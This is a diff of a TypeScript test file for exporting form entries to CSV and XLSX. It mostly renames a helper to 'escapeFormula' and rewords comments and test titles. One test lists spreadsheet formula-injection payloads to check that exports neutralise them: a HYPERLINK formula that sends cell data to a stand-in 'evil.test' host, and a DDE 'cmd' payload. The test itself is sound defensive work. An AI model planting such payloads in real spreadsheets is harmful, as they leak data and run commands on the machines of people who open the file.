@@ -23,7 +23,7 @@ import { addFile } from '../../media/files/files.ts';
 import { openZip } from '../../media/zip/zipArchive.ts';
 import { aForm } from '../../testing/aForm.ts';
 import { sharedPortal } from '../../testing/testPortal.ts';
-import { harmless } from './entriesCsv.ts';
+import { escapeFormula } from './entriesCsv.ts';
 import { readRowOrThrow } from '../../db/rows.ts';
 import { z } from 'zod/mini';
 
@@ -41,7 +41,7 @@ const send = (who: string, formId: string, values: FormValues) =>
     .call(submitEntry, { params: { formId }, body: { values } }, { 'idempotency-key': `key-${(count += 1)}` });
 const exported = async (formId: string, format: 'csv' | 'xlsx', who = 'edda') =>
   shared().portal.inject({ url: formExportPath(formId, format), headers: await shared().as(who).headers() });
-/** Cells of a CSV as a spreadsheet reads them. */
+/** The cells of a CSV file as a spreadsheet would read them. */
 function cellsOf(csv: string): string[][] {
   const rows: string[][] = [[]];
   for (const [, quoted, plain, end] of csv
@@ -54,7 +54,7 @@ function cellsOf(csv: string): string[][] {
   return rows.filter((row) => row.length > 0);
 }
 
-/** The cells of a workbook, as its XML. */
+/** The XML of a workbook's sheet. */
 async function sheetOf(workbook: Buffer): Promise<string> {
   const archive = await openZip({
     size: workbook.length,
@@ -174,9 +174,9 @@ test('texts that look like formulas are harmless in a spreadsheet [FORM-015, X6]
     '=HYPERLINK("https://evil.test?"&A1)',
     "=cmd|'/c calc'!A1",
   ];
-  for (const text of hostile) expect(harmless(text), JSON.stringify(text)).toBe(`'${text}`);
+  for (const text of hostile) expect(escapeFormula(text), JSON.stringify(text)).toBe(`'${text}`);
   for (const text of ['1=1', 'a+b', '', 'Ana', '(555) 010-0123', "'=1", 'a; b', 'a\nb', 'Mon - Fri; 9-5'])
-    expect(harmless(text)).toBe(text);
+    expect(escapeFormula(text)).toBe(text);
   for (const [text, safe] of [
     ['a;=1+1', "a;'=1+1"],
     ['a\n=1', "a\n'=1"],
@@ -185,15 +185,15 @@ test('texts that look like formulas are harmless in a spreadsheet [FORM-015, X6]
     ['=1;=2', "'=1;'=2"],
     ['a; ＝1', "a; '＝1"],
   ] as const)
-    expect(harmless(text), text).toBe(safe);
-  expect(harmless(-12)).toBe(-12);
+    expect(escapeFormula(text), text).toBe(safe);
+  expect(escapeFormula(-12)).toBe(-12);
   const { formId } = await publishForm(
     aForm({ title: '=1+1', fields: [{ type: 'TextArea', alias: 'text', label: '=label()' }] }),
   );
   for (const text of hostile) await send('ana', formId, { text: `${text} x` });
   const cells = cellsOf((await exported(formId, 'csv')).body);
   for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
-  // In a workbook texts are typed as such, whatever they begin with: there is no formula, and none of them is changed.
+  // A workbook stores text as text whatever it starts with, so it contains no formula and the text is unchanged.
   const sheet = await sheetOf((await exported(formId, 'xlsx')).rawPayload);
   expect(sheet).not.toMatch(/<f[ >/]/);
   const texts = [...sheet.matchAll(/<c [^>]*t="inlineStr"><is><t xml:space="preserve">([^<]*)<\/t><\/is><\/c>/g)].map(
@@ -245,18 +245,18 @@ test('ten thousand entries are streamed within seconds in both formats', async (
   await sql`insert into form_entries (id, form_id, form_version, user_id, values, received_at)
     select gen_random_uuid(), form_id, 1, user_id, jsonb_build_object('name', 'Entry ' || number), received_at - number * interval '1 second'
     from form_entries, generate_series(1, 9999) number where form_id = ${formId}`.execute(db);
-  const begun = performance.now();
+  const started = performance.now();
   const csv = cellsOf((await exported(formId, 'csv')).body);
   expect(csv).toHaveLength(10_001);
   expect(new Set(csv.map((row) => row[4])).size).toBe(10_001);
   expect((await exported(formId, 'xlsx')).rawPayload.length).toBeGreaterThan(50_000);
-  expect(performance.now() - begun).toBeLessThan(20_000);
+  expect(performance.now() - started).toBeLessThan(20_000);
 });
 
-test('entries past page 1,000 are read from one to the next, and the export has all of them [FORM-018]', async () => {
+test('entries past page 1,000 are read by their position, and the export contains all of them [FORM-018]', async () => {
   const { formId } = await publishForm();
   await send('ana', formId, { name: 'First' });
-  // 25,010 more, some with the same time.
+  // Adds 25,010 entries, some received at the same time.
   await sql`insert into form_entries (id, form_id, form_version, user_id, values, received_at)
     select gen_random_uuid(), form_id, form_version, user_id, jsonb_build_object('name', 'Copy ' || place), received_at - (place / 3) * interval '1 ms'
     from form_entries, generate_series(1, 25010) place where form_id = ${formId}`.execute(shared().db);
@@ -278,7 +278,7 @@ test('entries past page 1,000 are read from one to the next, and the export has 
   expect(csv).toHaveLength(1 + 25_011);
 }, 60_000);
 
-test('each read of entries by an editor is in the audit log first, without submitted values [L3, L1]', async () => {
+test('each read of entries by an editor is recorded in the audit log first, without submitted values [L3, L1]', async () => {
   const { db } = shared();
   const { formId } = await publishForm();
   await send('ana', formId, { name: 'very-private-words' });
@@ -320,7 +320,7 @@ test('each read of entries by an editor is in the audit log first, without submi
 
 test('the list of forms has every form that was ever published, with its entry count and location', async () => {
   const { formId, itemId } = await publishForm(aForm({ title: 'Listed' }));
-  // An instant whose last digits are zeros.
+  // An instant with trailing zeros.
   shared().clock.now = new Date(Math.ceil(shared().clock.now.getTime() / 1000) * 1000);
   await send('ana', formId, { name: 'A' });
   const { receivedAt } = await send('nils', formId, { name: 'N' });
